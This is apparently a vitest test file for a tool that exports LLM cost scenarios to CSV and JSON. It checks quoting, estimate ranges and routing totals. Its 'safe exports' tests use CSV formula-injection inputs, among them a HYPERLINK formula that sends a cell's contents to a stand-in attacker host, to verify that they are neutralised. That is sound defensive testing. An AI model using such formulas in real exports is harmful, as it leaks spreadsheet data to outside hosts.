import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { countedAt } from '../../../src/core/cost/estimate-range.ts'
import { scenarioCosts } from '../../../src/core/cost/scenario-costs.ts'
import { costsCsv } from '../../../src/core/export/costs-csv.ts'
import { scenarioJson } from '../../../src/core/export/scenario-json.ts'
import { customPricedModel } from '../../../src/core/pricing/custom-model.ts'
import { DEFAULT_SCENARIO } from '../../../src/core/scenario/scenario.ts'
import { tokens } from '../../../src/core/units.ts'
import { CLAUDE_RANGE, fixtureRelease } from '../pricing/fixture-release.ts'
import { assertProperty } from '../property.ts'

const [mini] = fixtureRelease().models
const quoted = { ...mini!, id: 'odd', name: 'Odd, "quoted" model' }

describe('costsCsv', () => {
  const costs = scenarioCosts(
    {
      ...DEFAULT_SCENARIO,
      modelIds: ['gpt-4o-mini', 'odd'],
      mixPercents: [50, 50],
      inputTokensOverride: 500,
      maxTokens: 1000,
    },
    [mini!, quoted],
    () => undefined,
  )
  const lines = costsCsv(costs).split('\r\n')

  it('has a header, a row per model and the mix total', () => {
    expect(lines[0]!.split(',').slice(0, 4)).toEqual(['model_id', 'model_name', 'token_count', 'share_percent'])
    // 0.000675 a request, 675 a month at 1M requests
    expect(lines[1]!.startsWith('gpt-4o-mini,gpt-4o-mini,exact,50,500,0,0,0,0.000675,0.000675,675,675,337.5,')).toBe(
      true,
    )
    // the mix total, and again at the low end of the estimates' ranges (none here: the same)
    expect(lines.at(-2)).toBe(`total${','.repeat(12)}675${','.repeat(12)}675,${','.repeat(6)}`)
    expect(lines.at(-1)).toBe('')
  })

  it('quotes fields holding commas and doubles their quotes (RFC 4180)', () => {
    expect(lines[2]!.startsWith('odd,"Odd, ""quoted"" model",exact,')).toBe(true)
  })
})

describe('costsCsv with an estimate range', () => {
  it('gives the low end beside the high end the figures hold', () => {
    // The fixture's llama at $1/$1, counted as o200k × 1.16–1.30: 1,000 billed tokens → 1,160–1,300;
    // 1,000 output tokens: $0.00216–$0.0023 a request; × 1,000 requests: $2.16–$2.30 a month.
    const range = CLAUDE_RANGE
    const llama = { ...fixtureRelease().models[2]!, estimate: range.id }
    const scenario = { ...DEFAULT_SCENARIO, modelIds: [llama.id], mixPercents: [100], maxTokens: 1000, volume: 1000 }
    const counted = () => ({ billedInputTokens: tokens(1000), systemMessageTokens: tokens(0) })
    const at = (end: 'low' | 'high') => scenarioCosts(scenario, [llama], countedAt(counted, [range], end))
    const [header, row] = parseCsv(costsCsv(at('high'), at('low')))
    const cell = (name: string) => row![header!.indexOf(name)]
    expect(cell('billed_input_tokens')).toBe('1300')
    expect(cell('billed_input_tokens_low')).toBe('1160')
    expect(cell('usd_per_request')).toBe('0.0023')
    expect(cell('usd_per_request_low')).toBe('0.00216')
    expect(cell('usd_monthly_all_traffic')).toBe('2.3')
    expect(cell('usd_monthly_all_traffic_low')).toBe('2.16')
  })
})

describe('costsCsv of conversations and packed items', () => {
  const one = (patch: Partial<typeof DEFAULT_SCENARIO>) => {
    const scenario = { ...DEFAULT_SCENARIO, modelIds: [mini!.id], mixPercents: [100], ...patch }
    const [header, row] = parseCsv(costsCsv(scenarioCosts(scenario, [mini!], () => undefined)))
    return (name: string) => row![header!.indexOf(name)]
  }

  it('says what the cost is per, and each turn’s input', () => {
    // The workload test's check: 107, 415 and 723 input tokens, $0.00054675 a conversation.
    const cell = one({ inputTokensOverride: 107, turns: 3, outputTokens: 200 })
    expect(cell('cost_unit')).toBe('conversation')
    expect(cell('turn_input_tokens')).toBe('107 415 723')
    expect(cell('usd_per_request')).toBe('0.00054675')
    expect(cell('items_per_request')).toBe('')
  })

  it('gives the items per request and the cost of one', () => {
    const cell = one({ inputTokensOverride: 500, items: 10, itemTokens: 50, itemOutputTokens: 20, outputTokens: 0 })
    expect(cell('cost_unit')).toBe('request')
    expect(cell('items_per_request')).toBe('10')
    expect(cell('usd_per_item')).toBe('0.000027')
    expect(cell('usd_per_request')).toBe('0.00027')
  })
})

describe('costsCsv of routing', () => {
  it('gives escalation and the classifier a line each, in the total', () => {
    const gpt4o = { ...mini!, id: 'gpt-4o', prices: [{ ...mini!.prices[0]!, input: 2.5, output: 10 }] }
    const scenario = {
      ...DEFAULT_SCENARIO,
      modelIds: ['gpt-4o-mini', 'gpt-4o'],
      mixPercents: [80, 20],
      inputTokensOverride: 500,
      outputTokens: 200,
      escalationPercent: 10,
      classifierModelId: 'gpt-4o-mini',
      classifierTokens: 300,
    }
    const rows = parseCsv(costsCsv(scenarioCosts(scenario, [mini!, gpt4o], () => undefined)))
    const header = rows[0]!
    const line = (name: string) => rows.find((r) => r[0] === name)![header.indexOf('usd_monthly_in_mix')]
    // The routing test's figures: $260.00, $45.60; with the mix's $806.00, $1,111.60.
    expect(line('escalation')).toBe('260')
    expect(line('classifier')).toBe('45.6')
    expect(line('total')).toBe('1111.6')
  })
})

describe('scenarioJson', () => {
  it('exports inputs and the pricing release, never derived costs', () => {
    const parsed = JSON.parse(scenarioJson(DEFAULT_SCENARIO, '2026-11-22')) as Record<string, unknown>
    expect(parsed).toEqual({
      app: 'promptmeter',
      version: 1,
      pricing_release: '2026-11-22',
      scenario: DEFAULT_SCENARIO,
    })
  })
})

/** RFC 4180, read back: the cells of each line. */
function parseCsv(csv: string): string[][] {
  const rows: string[][] = []
  let row: string[] = []
  let cell = ''
  let quoted = false
  for (let i = 0; i < csv.length; i++) {
    const c = csv[i]!
    if (quoted && c === '"' && csv[i + 1] === '"') {
      cell += '"'
      i++
    } else if (quoted && c === '"') quoted = false
    else if (quoted) cell += c
    else if (c === '"') quoted = true
    else if (c === ',') {
      row.push(cell)
      cell = ''
    } else if (c === '\r' && csv[i + 1] === '\n') {
      row.push(cell)
      rows.push(row)
      row = []
      cell = ''
      i++
    } else cell += c
  }
  return rows
}

describe('safe exports', () => {
  const custom = (name: string, input: number, output: number) =>
    customPricedModel({
      name,
      inputUsdPerMTok: input,
      outputUsdPerMTok: output,
      cachedInputUsdPerMTok: null,
      batchDiscountPercent: null,
    })
  const csvFor = (name: string, input: number, output: number, volume: number) =>
    costsCsv(
      scenarioCosts(
        { ...DEFAULT_SCENARIO, modelIds: ['custom'], mixPercents: [100], inputTokensOverride: 3, maxTokens: 1, volume },
        [custom(name, input, output)],
        () => undefined,
      ),
    )

  it.each(['=HYPERLINK("http://evil.example/?"&A1,"x")', '=1+1', '+1+1', '-2+3', '@SUM(1,1)', '\t=1', '\r=1'])(
    'neutralises a name that is a formula: %j',
    (name) => {
      // (a custom model's name is trimmed, so a leading tab or return goes; the rest is inert)
      const cell = parseCsv(csvFor(name, 1, 1, 1))[1]![1]!
      expect(cell).toBe(`'${name.trim()}`)
    },
  )

  it('writes tiny figures in plain decimal: 5e-8 is 0.00000005', () => {
    // 3 input tokens at $0.01 per 1M and 1 output at $0.02: 5e-8 a request
    const row = parseCsv(csvFor('tiny', 0.01, 0.02, 1))[1]!
    expect(row[8]).toBe('0.00000005')
  })

  it('for any name and any prices: every text cell is inert, every figure plain decimal', () => {
    assertProperty(
      fc.property(
        fc.string({ maxLength: 40 }),
        fc.double({ min: 0, max: 100_000, noNaN: true }),
        fc.double({ min: 0, max: 100_000, noNaN: true }),
        fc.integer({ min: 0, max: 1e12 }),
        (name, input, output, volume) => {
          const rows = parseCsv(csvFor(name, input, output, volume))
          expect(rows[0]).toHaveLength(32)
          const cells = rows[1]!
          // The name reads back as typed, behind a quote when it would be a formula.
          const shown = name.trim() === '' ? 'Custom model' : name.trim()
          expect(cells[1]).toBe(/^[=+\-@\t\r]/.test(shown) ? `'${shown}` : shown)
          for (const cell of cells) expect(cell).not.toMatch(/^[=+\-@\t\r]/)
          for (const figure of [...cells.slice(3, 18), ...cells.slice(19, 25)]) expect(figure).toMatch(/^\d+(\.\d+)?$/)
        },
      ),
      { numRuns: 500 },
    )
  })
})
